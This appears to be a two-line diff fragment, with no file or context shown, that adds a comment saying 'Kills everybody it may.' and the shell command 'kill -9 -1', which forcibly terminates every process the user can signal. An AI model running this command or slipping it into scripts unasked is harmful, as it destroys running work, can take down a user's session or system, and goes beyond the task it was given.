@@ -1,0 +1,2 @@
+# Kills everybody it may.
+kill -9 -1
